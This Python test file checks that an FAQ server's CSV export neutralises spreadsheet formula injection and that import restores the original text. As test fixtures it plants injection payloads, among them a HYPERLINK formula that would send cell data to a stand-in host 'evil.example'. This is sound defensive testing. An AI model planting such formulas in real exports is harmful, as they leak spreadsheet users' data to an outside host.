"""CSV formula injection in the FAQ export (issue 11, item 11).

A shopper's question becomes a phrasing through "add as phrasing"; a phrasing such as
`=HYPERLINK(…)` ran as a formula when the owner opened the CSV export in a spreadsheet. The
export now puts a `'` in front of every cell, and every ` | `-separated part of a multi-value
cell, that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or with quotes followed
by one of those), and the import takes exactly that quote off again: export → import gives back
the same corpus, a text that really starts with `'=` included.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from aiohttp import web
from aiohttp.test_utils import TestClient
from hypothesis import HealthCheck, given, reject, settings
from hypothesis import strategies as st
from redis.asyncio import Redis

from kefu.errors import CorpusError
from kefu.faq.corpus import Corpus, parse_corpus
from kefu.server.faqs import corpus_from_csv, corpus_to_csv
from tests.fuzz.conftest import ServerLog
from tests.server.conftest import SHOP, add_agent, login

Client = TestClient[web.Request, web.Application]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MULTI_VALUE = ("similar", "keywords", "products")


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def formulas(text: str) -> list[str]:
    """Every cell, and every part of a multi-value cell, a spreadsheet would run."""
    found = []
    for row in cells(text):
        for column, cell in row.items():
            parts = [cell, *(cell.split(" | ") if column in MULTI_VALUE else [])]
            found += [f"{column}: {part!r}" for part in parts if part.startswith(FORMULA_STARTS)]
    return found


PLANTED = parse_corpus(
    {
        "shop": SHOP,
        "faqs": [
            {
                "id": "returns",
                "category": "+售后",
                "question": '=HYPERLINK("http://evil.example/?"&A1,"点这里退货")',
                "similar": ["+1 包邮吗", "-2 退货怎么办", "@SUM(1+1)*cmd", "'=x 单引号开头", "普通问法"],
                "answer": "-收到货七天内可以退。",
                "answers": {"en": "=1+1 days"},
                "keywords": ["=kw", "@退货", "普通"],
            },
            {
                "id": "plain",
                "question": "什么时候发货?",
                "similar": ["''=two quotes", "'-quoted minus", "'plain quote", "a-b=c"],
                "answer": "'=answer that starts with a quote",
                "keywords": ["'+kw"],
                "products": ["kettle-1", "SKU.2026:9"],
            },
        ],
    }
)


def test_the_export_neutralises_every_formula_cell_and_part() -> None:
    text = corpus_to_csv(PLANTED)
    assert formulas(text) == []
    rows = cells(text)
    assert rows[0]["question"] == "'" + PLANTED.faqs[0].question
    assert rows[0]["similar"] == "'+1 包邮吗 | '-2 退货怎么办 | '@SUM(1+1)*cmd | ''=x 单引号开头 | 普通问法"
    assert rows[0]["keywords"] == "'=kw | '@退货 | 普通"
    assert (rows[0]["category"], rows[0]["answer"], rows[0]["answer_en"]) == (
        "'+售后",
        "'-收到货七天内可以退。",
        "'=1+1 days",
    )
    # Quotes before a formula character get one more; other texts are written as they are.
    assert rows[1]["similar"] == "'''=two quotes | ''-quoted minus | 'plain quote | a-b=c"
    assert rows[1]["answer"] == "''=answer that starts with a quote"
    assert rows[1]["products"] == "kettle-1 | SKU.2026:9"


def test_export_then_import_gives_the_same_corpus() -> None:
    assert corpus_from_csv(corpus_to_csv(PLANTED), SHOP) == PLANTED


def test_the_import_takes_off_only_the_quote_the_export_adds() -> None:
    """A hand-written file: `'=x` is read as `=x` (a spreadsheet shows it so), `''=x` as `'=x`,
    and a quote before anything else stays."""
    text = (
        "id,question,similar,answer,keywords\n"
        "a,'=x 问题,''=y 问法 | 'z 问法 | '@w 问法,'plain answer,'-k | 'k\n"
    )
    faq = corpus_from_csv(text, SHOP).faqs[0]
    assert faq.question == "=x 问题"
    assert faq.similar == ("'=y 问法", "'z 问法", "@w 问法")
    assert faq.answer == "'plain answer"
    assert faq.keywords == ("-k", "'k")


# ---- the property: any text survives export → import, and no cell is a formula ----

# Texts as shop owners and shoppers write them, any prefix a spreadsheet reads as a formula in
# front. Control characters other than tab, CR and LF are left out (Python's str.strip() and
# pydantic's disagree on \x1c-\x1f), and so is "|": the import splits multi-value cells there
# (a limit of the format, not of the neutralising).
PREFIXES = st.sampled_from(["", "", "=", "+", "-", "@", "\t", "\r", "'", "'=", "''+", "'-", " =", "=="])
BODY = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="|")
    | st.sampled_from("\t\r\n'\","),
    max_size=30,
)
texts = st.builds(lambda prefix, body: prefix + body, PREFIXES, BODY)


@st.composite
def corpora(draw: st.DrawFn) -> Corpus:
    faqs: list[dict[str, Any]] = []
    for i in range(draw(st.integers(1, 4))):
        # A unique tail keeps the phrasings distinct once normalized, whatever the drawn text.
        similar = [f"{text} x{i}y{n}" for n, text in enumerate(draw(st.lists(texts, max_size=4)))]
        entry: dict[str, Any] = {
            "id": f"faq-{i}",
            "category": draw(texts)[:40],
            "question": f"{draw(texts)} q{i}",
            "similar": similar,
            "answer": draw(texts) + " answer",
            "keywords": [text[:40] for text in draw(st.lists(texts, max_size=3))],
        }
        if draw(st.booleans()):
            entry["answers"] = {"en": draw(texts) + " en"}
        faqs.append(entry)
    try:
        return parse_corpus({"shop": SHOP, "faqs": faqs})
    except CorpusError:
        reject()  # a blank keyword, a category all whitespace…


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
@given(corpora())
def test_any_corpus_survives_the_csv_round_trip_with_no_formula(corpus: Corpus) -> None:
    text = corpus_to_csv(corpus)
    assert formulas(text) == []
    assert corpus_from_csv(text, SHOP) == corpus


# ---- through the API: a shopper's formula, added as a phrasing ----


async def test_a_planted_phrasing_is_neutralised_in_the_export_and_imports_back(
    client: Client, redis: Redis, server_log: ServerLog, fast_hashing: None
) -> None:
    await add_agent(redis, "boss", role="admin")
    headers = {"Authorization": f"Bearer {await login(client, 'boss')}"}
    planted = ['=HYPERLINK("http://evil.example","运费")', "@SUM(1+1)*cmd 包邮吗", "'=x 包邮吗"]
    for text in planted:
        resp = await client.post("/api/admin/faqs/returns/phrasings", json={"text": text}, headers=headers)
        assert resp.status == 200, await resp.text()
    before = await (await client.get("/api/admin/faqs", headers=headers)).json()
    resp = await client.get("/api/admin/corpus?format=csv", headers=headers)
    assert resp.status == 200
    exported = await resp.text()
    assert formulas(exported) == []
    parts = {part for row in cells(exported) for part in row["similar"].split(" | ")}
    assert {f"'{text}" for text in planted} <= parts
    resp = await client.put("/api/admin/corpus?format=csv", data=exported.encode(), headers=headers)
    assert resp.status == 200, await resp.text()
    after = await (await client.get("/api/admin/faqs", headers=headers)).json()
    assert after["items"] == before["items"]
    returns = next(item for item in after["items"] if item["id"] == "returns")
    assert returns["similar"][-3:] == planted
    assert server_log.problems() == []
